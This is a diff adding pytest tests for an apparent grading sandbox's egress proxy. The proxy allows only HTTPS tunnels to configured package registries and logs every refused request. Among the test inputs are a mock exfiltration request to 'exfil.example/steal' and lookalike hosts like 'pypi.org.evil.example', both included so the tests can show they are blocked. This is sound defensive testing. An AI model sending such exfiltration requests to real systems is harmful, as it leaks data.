@@ -1,0 +1,141 @@
+"""The setup phase's only way out: a proxy that tunnels to the configured registries and refuses the rest."""
+
+from __future__ import annotations
+
+import contextlib
+import socket
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from conftest import write_tree
+
+from gradelib.sandbox import Sandbox
+from gradelib.sandbox.registryproxy import RegistryProxy, registry_hosts
+
+
+@contextlib.contextmanager
+def _echo_server() -> Iterator[int]:
+    """A TCP server on the host's loopback that sends back what it receives: its port."""
+    listener = socket.create_server(("127.0.0.1", 0))
+    stop = threading.Event()
+
+    def serve() -> None:
+        listener.settimeout(0.2)
+        while not stop.is_set():
+            try:
+                conn, _ = listener.accept()
+            except TimeoutError:
+                continue
+            with conn:
+                conn.settimeout(10)
+                with contextlib.suppress(OSError):
+                    while data := conn.recv(4096):
+                        conn.sendall(data.upper())
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    try:
+        yield listener.getsockname()[1]
+    finally:
+        stop.set()
+        thread.join()
+        listener.close()
+
+
+@contextlib.contextmanager
+def _proxy(proxy: RegistryProxy) -> Iterator[int]:
+    """The proxy served on the host's loopback (the sandbox gives it a socket in its namespace instead)."""
+    listener = socket.create_server(("127.0.0.1", 0))
+    with listener, proxy.serve(listener):
+        yield listener.getsockname()[1]
+
+
+def _ask(port: int, request: bytes, then: bytes = b"") -> tuple[bytes, bytes]:
+    """Send a request head to the proxy; its answer's status line, and what `then` came back as."""
+    with socket.create_connection(("127.0.0.1", port), timeout=10) as conn:
+        conn.sendall(request)
+        answer = b""
+        while b"\r\n\r\n" not in answer:
+            chunk = conn.recv(4096)
+            if not chunk:
+                break
+            answer += chunk
+        echoed = b""
+        if then and answer.startswith(b"HTTP/1.1 200"):
+            conn.sendall(then)
+            while len(echoed) < len(then):
+                echoed += conn.recv(4096)
+        return answer.split(b"\r\n", 1)[0], echoed
+
+
+def test_the_registries_are_pypi_and_npm_by_default_or_what_is_configured() -> None:
+    assert registry_hosts(None, None) == (
+        "pypi.org:443", "files.pythonhosted.org:443", "registry.npmjs.org:443", "registry.yarnpkg.com:443",
+    )  # fmt: skip
+    assert registry_hosts("http://mirror.internal:3141/root/pypi/+simple/", "https://npm.internal/") == (
+        "mirror.internal:3141", "npm.internal:443",
+    )  # fmt: skip
+
+
+def test_only_a_registry_by_its_name_and_port_is_allowed() -> None:
+    proxy = RegistryProxy(registry_hosts(None, None))
+    assert proxy.allows("pypi.org", 443) and proxy.allows("Registry.NPMjs.org.", 443)
+    assert not proxy.allows("pypi.org", 22)
+    assert not proxy.allows("pypi.org.evil.example", 443)
+    assert not proxy.allows("151.101.0.223", 443), "an address is no name"
+    assert not proxy.allows("example.com", 443)
+
+
+def test_a_tunnel_to_an_allowed_host_carries_bytes_and_the_rest_is_refused_and_listed() -> None:
+    with _echo_server() as allowed, _echo_server() as other:
+        proxy = RegistryProxy([f"127.0.0.1:{allowed}"])
+        with _proxy(proxy) as port:
+            status, echoed = _ask(port, f"CONNECT 127.0.0.1:{allowed} HTTP/1.1\r\n\r\n".encode(), b"hello")
+            assert (status, echoed) == (b"HTTP/1.1 200 Connection Established", b"HELLO")
+            status, _ = _ask(port, f"CONNECT 127.0.0.1:{other} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
+            assert status == b"HTTP/1.1 403 Forbidden"
+            status, _ = _ask(port, b"GET http://exfil.example/steal?k=1 HTTP/1.1\r\nHost: exfil.example\r\n\r\n")
+            assert status == b"HTTP/1.1 405 Method Not Allowed"
+            status, _ = _ask(port, b"\x16\x03\x01 not http at all\r\n\r\n")  # TLS straight away
+            assert status == b"HTTP/1.1 405 Method Not Allowed"
+    evidence = proxy.evidence()
+    assert evidence["reached"] == {f"127.0.0.1:{allowed}": 1}
+    assert evidence["refused"][:2] == [
+        f"127.0.0.1:{other}: not a configured registry",
+        "exfil.example: GET: only HTTPS tunnels go out",
+    ]
+
+
+@pytest.mark.parametrize("direct", [False, True])
+def test_a_sandboxed_setup_reaches_a_registry_only_through_the_proxy(tmp_path: Path, direct: bool) -> None:
+    """The sandbox's network namespace has no way out but the proxy the kit serves into it."""
+    code = (
+        "import os, socket, sys\n"
+        "host, port = sys.argv[1], int(sys.argv[2])\n"
+        "if sys.argv[3] == 'direct':\n"
+        "    conn = socket.create_connection((host, port), timeout=5)\n"
+        "else:\n"
+        "    proxy = os.environ['HTTPS_PROXY'].removeprefix('http://').split(':')\n"
+        "    conn = socket.create_connection((proxy[0], int(proxy[1])), timeout=5)\n"
+        "    conn.sendall(f'CONNECT {host}:{port} HTTP/1.1\\r\\n\\r\\n'.encode())\n"
+        "    print(conn.recv(4096).split(b'\\r\\n')[0].decode())\n"
+        "conn.sendall(b'ping')\n"
+        "print(conn.recv(64).decode())\n"
+    )
+    sub = write_tree(tmp_path / "sub", {"setup.py": code})
+    with _echo_server() as registry:
+        proxy = RegistryProxy([f"127.0.0.1:{registry}"])
+        with Sandbox(sub) as box:
+            argv = ["python3", "setup.py", "127.0.0.1", str(registry), "direct" if direct else "proxy"]
+            result = box.run(argv, box.copy("a"), services=[proxy.service()])
+    if not result.isolation.network_verified:
+        pytest.fail(f"the sandbox has no network namespace here: {result.isolation.reason}")
+    if direct:
+        assert result.exit_code != 0 and "Connection refused" in result.stderr  # nothing of the host's is there
+        assert proxy.evidence()["reached"] == {}
+    else:
+        assert result.exit_code == 0, result.stderr
+        assert result.stdout.split() == ["HTTP/1.1", "200", "Connection", "Established", "PING"]
+        assert proxy.evidence()["reached"] == {f"127.0.0.1:{registry}": 1}
